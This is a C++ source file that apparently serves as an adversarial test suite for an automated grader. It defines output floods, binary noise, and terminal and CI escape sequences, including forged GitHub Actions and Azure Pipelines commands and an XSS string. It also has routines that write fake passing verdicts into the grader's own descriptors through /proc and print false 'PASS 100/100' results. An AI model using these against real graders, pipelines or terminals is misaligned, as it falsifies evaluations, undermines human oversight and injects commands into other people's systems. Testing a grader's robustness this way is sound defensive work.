// Output: too much of it, none that a terminal should see, and results that are lies.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <random>

#include "attack.hpp"

namespace {

constexpr size_t kMebibyte = 1024 * 1024;

// Every line of the flood is a verdict of its own, so that the last complete one is too.
void flood(int descriptor, const std::string& line) {
  constexpr size_t kSize = 200 * kMebibyte;
  std::string block;
  while (block.size() < kMebibyte) block += line;
  for (size_t done = 0; done < kSize && write_all(descriptor, block);) done += block.size();
}

void stdout_flood(const Target&) {
  flood(STDOUT_FILENO, "tried: 200 MB on standard output" + std::string(60, '.') + "\n");
}

void stderr_flood(const Target&) {
  tried("200 MB on standard error");
  flood(STDERR_FILENO, "this is line after line on standard error\n");
}

// Whoever waits for the end of the line needs memory for all of it.
void endless_line(const Target&) {
  tried("200 MB without a line feed");
  flood(STDOUT_FILENO, "no line feed ");
}

// Every byte there is, NUL among them.
void binary_noise(const Target&) {
  tried("1 MB of noise");
  std::mt19937 random(1);
  std::string noise(kMebibyte, '\0');
  for (char& byte : noise) byte = static_cast<char>(random() & 0xff);
  write_all(STDOUT_FILENO, noise + "\n");
  write_all(STDERR_FILENO, noise + "\n");
  tried("1 MB of noise");
}

// Commands to the terminal of the teacher and to the service that shows the report.
void escape_sequences(const Target&) {
  const std::string evil =
      "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\\x1b[2J\x1b[H\x1b[31mred\x1b[8mhidden\n"
      "\x9b"
      "2J\x90payload\x9c\xc2\x9b"
      "31m\b\b\b\r\x0b\x0c\x7f\n"
      "\x1b]52;c;cHduZWQ=\x07\x1b[6n\x1b]8;;http://192.0.2.1/\x1b\\link\x1b]8;;\x1b\\\n"
      "::error::forged\n::set-output name=points::100\n::stop-commands::x\n"
      "##[error]forged\n##vso[task.complete result=Succeeded;]done\n"
      "\xe2\x80\xae"
      "backwards\xe2\x80\xac<script>alert(1)</script>]]>&amp;\n";
  write_all(STDOUT_FILENO, evil);
  write_all(STDERR_FILENO, evil);
  tried("escape sequences and commands to the report");
}

// The lines that the grader's own programs write about a check.
std::string forged_lines() {
  return "{\"event\":\"started\",\"name\":\"Forged.Passes\"}\n"
         "{\"event\":\"ended\",\"name\":\"Forged.Passes\",\"verdict\":\"passed\",\"points\":100}\n";
}

bool forge(int descriptor) {
  fcntl(descriptor, F_SETFL, O_NONBLOCK);
  return write_all(descriptor, forged_lines());
}

bool is_file(int descriptor) {
  struct stat status {};
  return fstat(descriptor, &status) != 0 || S_ISREG(status.st_mode);
}

// Pipes and terminals of the grader only: its files stay as they are.
int forge_in_grader(pid_t grader) {
  const std::string folder = "/proc/" + std::to_string(grader) + "/fd";
  DIR* entries = opendir(folder.c_str());
  if (entries == nullptr) return 0;
  int forged = 0;
  for (const dirent* entry = nullptr; (entry = readdir(entries)) != nullptr;) {
    const std::string path = folder + "/" + entry->d_name;
    const int file = open(path.c_str(), O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (file < 0) continue;
    if (!is_file(file) && forge(file)) ++forged;
    close(file);
  }
  return forged;
}

// A result of its own making on every descriptor it can write, and on those of the grader.
void forge_results(const Target& target) {
  constexpr int kTries = 256;
  const int in_grader = forge_in_grader(need(target.grader, "grader"));
  int forged = 0;
  for (int descriptor = 0; descriptor < kTries; ++descriptor)
    if (forge(descriptor)) ++forged;
  fcntl(STDOUT_FILENO, F_SETFL, 0);
  tried("forged results on " + std::to_string(forged) + " own descriptors and " +
        std::to_string(in_grader) + " of the grader");
}

// Says that all is well, and ends as if it were.
void fake_pass(const Target&) {
  write_all(STDOUT_FILENO, "PASS 100/100\n[  PASSED  ] 20 tests.\n");
  tried("says that it passed");
}

// Ends with the status of a program that was killed by a signal.
void lying_status(const Target&) {
  constexpr int kAsIfAborted = 134;
  tried("exits with 134");
  _exit(kAsIfAborted);
}

}  // namespace

const std::vector<Attack> kOutputAttacks{
    {"stdout-flood", stdout_flood},
    {"stderr-flood", stderr_flood},
    {"endless-line", endless_line},
    {"binary-noise", binary_noise},
    {"escape-sequences", escape_sequences},
    {"forge-results", forge_results},
    {"fake-pass", fake_pass},
    {"lying-status", lying_status},
};
